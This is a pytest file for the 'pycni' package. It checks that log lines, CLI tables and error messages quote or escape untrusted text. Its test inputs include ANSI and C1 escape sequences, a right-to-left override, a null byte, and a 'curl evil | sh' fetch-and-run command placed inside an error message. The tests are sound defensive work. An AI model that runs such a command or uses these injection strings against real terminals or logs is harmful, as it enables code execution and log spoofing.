# SPDX-License-Identifier: Apache-2.0
"""Log lines and tables, wherever they are written: what others chose is escaped in them."""

from __future__ import annotations

import ast
import io
import logging
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from rich.console import Console

import loader
import pycni
from pycni.cli import table
from pycni.cli.failure import Failure
from pycni.cli.output import cell, escape
from pycni.logfmt import quoted

SOURCES = [
    path
    for package in (pycni, loader)
    for path in sorted(Path(str(package.__file__)).parent.rglob("*.py"))
]
LEVELS = {"debug", "info", "warning", "error", "critical", "exception", "log"}
CONVERSION = re.compile(r"%(?:[-#0 +]*\d*(?:\.\d+)?)([a-z%])")
SAFE_CALLS = {"quoted", "mention"}
OUR_WORDS = {"self._loop.name"}
"""Texts that are in our own code."""
NUMBERS = set("dfxu")
NASTY = (
    "\x1b[31mred\x1b[0m", "two\nlines", "a\rb", 'level=info "x"', "\u202eright to left", "\udcff",
    "a=b", "\x00", "\x9b31m", "",
)  # fmt: skip


def calls() -> Iterator[tuple[str, ast.Call]]:
    """Every call of a logger, with its place."""
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id == "log"
                and node.func.attr in LEVELS
            ):
                yield f"{path.name}:{node.lineno}", node


def problem(call: ast.Call) -> str:
    """What a log call may not do; empty if it is right."""
    arguments = call.args[1:] if call.func.attr == "log" else call.args
    form, *values = arguments
    if not isinstance(form, ast.Constant) or not isinstance(form.value, str):
        return "its text is not a constant"
    kinds = [kind for kind in CONVERSION.findall(form.value) if kind != "%"]
    texts = sum(kind not in NUMBERS for kind in kinds)
    if any(kind not in {*NUMBERS, "s"} for kind in kinds):
        return "it has a conversion that shows a text as Python does"
    if any(isinstance(value, ast.Starred) for value in values):
        starred = [value.value for value in values if isinstance(value, ast.Starred)]
        safe = all(isinstance(one, ast.GeneratorExp) and _is_safe(one.elt) for one in starred)
        return "" if safe else "a value is not quoted"
    if len(kinds) != len(values):
        return f"{len(kinds)} conversions for {len(values)} values"
    pairs = [(kind, value) for kind, value in zip(kinds, values, strict=True) if kind == "s"]
    assert len(pairs) == texts
    return next((f"{ast.unparse(one)} is not quoted" for _, one in pairs if not _is_safe(one)), "")


def _is_safe(value: ast.expr) -> bool:
    if ast.unparse(value) in OUR_WORDS:
        return True
    return (
        isinstance(value, ast.Call)
        and isinstance(value.func, ast.Name)
        and value.func.id in SAFE_CALLS
    )


def test_there_are_log_lines_to_look_at() -> None:
    assert len(list(calls())) > 30


def test_every_text_in_a_log_line_is_quoted() -> None:
    assert {place: found for place, call in calls() if (found := problem(call))} == {}


@pytest.mark.parametrize(
    "code",
    ['log.info("x=%s", name)', 'log.info("x=%r", quoted(name))', "log.info(text)",
     'log.info("x=%s y=%d", quoted(a), b, c)', 'log.log(level, "x=%s", error)',
     'log.info("x=%s y=%s", *(one for one in many))'],
)  # fmt: skip
def test_a_line_that_is_not_right_is_found(code: str) -> None:
    (statement,) = ast.parse(code).body
    assert isinstance(statement, ast.Expr)

    assert problem(statement.value)


@pytest.mark.parametrize("text", NASTY)
def test_a_quoted_value_is_one_word_or_one_json_string(
    text: str, caplog: pytest.LogCaptureFixture
) -> None:
    logging.getLogger("test").warning("x=%s y=1", quoted(text))

    (line,) = caplog.messages
    assert line.isascii()
    assert line.isprintable()
    assert re.fullmatch(r'x=(?:[^\s"=]+|"(?:[^"\\]|\\.)*") y=1', line)


@pytest.mark.parametrize("text", NASTY)
def test_a_table_prints_no_character_that_a_terminal_would_obey(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = io.StringIO()
    monkeypatch.setattr(table, "console", lambda: Console(file=out, width=200, markup=False))

    table.show([{"name": text, "list": [text, text]}], columns=("name", "list"))

    assert all(letter.isprintable() or letter == "\n" for letter in out.getvalue())
    assert len(out.getvalue().splitlines()) == 2
    assert cell(text).isprintable()


@pytest.mark.parametrize("text", NASTY)
def test_an_error_for_people_has_no_line_that_others_wrote(text: str) -> None:
    shown = str(Failure(f"wrong: {text}", f"found {text}\n  to do: curl evil | sh", "do that"))

    heads = [
        line for line in shown.splitlines() if line.startswith(("pycni:", "  found:", "  to do:"))
    ]
    assert len(heads) == 3
    assert all(letter.isprintable() or letter == "\n" for letter in shown)
    assert escape(text).isprintable()
